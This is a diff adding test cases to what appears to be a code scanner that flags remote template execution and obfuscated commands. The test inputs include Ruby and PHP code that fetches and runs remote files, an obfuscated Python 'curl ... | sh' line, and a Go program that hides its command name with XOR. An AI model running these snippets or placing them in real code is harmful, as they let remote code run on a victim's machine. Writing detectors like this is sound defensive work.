@@ -150,3 +150,50 @@ test("managers that start each other too often are not read, and held", async ()
     "unread-script",
   );
 });
+
+/** A template that contains a program, and what a block or a choice returns. */
+test.each([
+  [
+    "a.rb",
+    `require "erb"\nrequire "open-uri"\nputs ERB.new(URI.open("${FROM}").read, trim_mode: "<>").result(binding)\n`,
+  ],
+  [
+    "a.rb",
+    `require "erb"\nrequire "open-uri"\nrequire "timeout"\ntext = Timeout.timeout(5) { URI.open("${FROM}").read }\nputs ERB.new(text).result\n`,
+  ],
+  ["a.rb", `require "open-uri"\ntext = with_retries { URI.open("${FROM}").read }\neval(text)\n`],
+  [
+    "a.js",
+    `import ejs from "ejs";\nconst text = await (await fetch("${FROM}")).text();\nconsole.log(ejs.render(text, {}));\n`,
+  ],
+  [
+    "a.php",
+    `<?php\nfunction page(string $name): string {\n  $path = sys_get_temp_dir() . "/page.phtml";\n  if (!is_file($path)) @copy("http://files.drop.invalid/$name", $path);\n  return is_file($path) ? $path : __DIR__ . "/page.phtml";\n}\ninclude page("plain");\n`,
+  ],
+])("a template of a host is not run: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toContain("download-run");
+});
+
+test.each([
+  ["a.rb", `require "erb"\nputs ERB.new(File.read("page.erb")).result(binding)\n`],
+  [
+    "a.rb",
+    `require "open-uri"\ntext = with_retries { URI.open("https://api.example.com/a").read }\nputs text\n`,
+  ],
+  ["a.php", `<?php\n$path = getenv("PAGE") ? "/tmp/page.phtml" : __DIR__ . "/page.phtml";\ninclude $path;\n`],
+])("a template of its own may be run: %s %#", async (path, text) => {
+  expect(await rulesIn(path, text)).toEqual([]);
+});
+
+test.each([
+  `import types\nkind = type(lambda: 0)\nkind(compile("import os\\nos.sys" + "tem('curl ${FROM} | sh')", __name__, "exec"), {})()\n`,
+])("what is compiled to be run is read: %#", async (text) => {
+  expect(await rulesIn("a.py", text)).toContain("download-run");
+});
+
+test("the words of a program in Go are not made of letters that nobody can read", async () => {
+  const program = (words: string) =>
+    `package main\nimport ("os"; "syscall")\nfunc main() {\n  text := make([]byte, len(table))\n  for at := range table { text[at] = table[at] ^ name[at%len(name)] }\n  words := []string{${words}}\n  syscall.ForkExec(words[0], words, &syscall.ProcAttr{Env: os.Environ()})\n}\n`;
+  expect(await rulesIn("a.go", program("string(text[:7]), string(text[8:])"))).toContain("hidden-name");
+  expect(await rulesIn("a.go", program('"/usr/bin/sort", string(text[8:])'))).toEqual([]);
+});
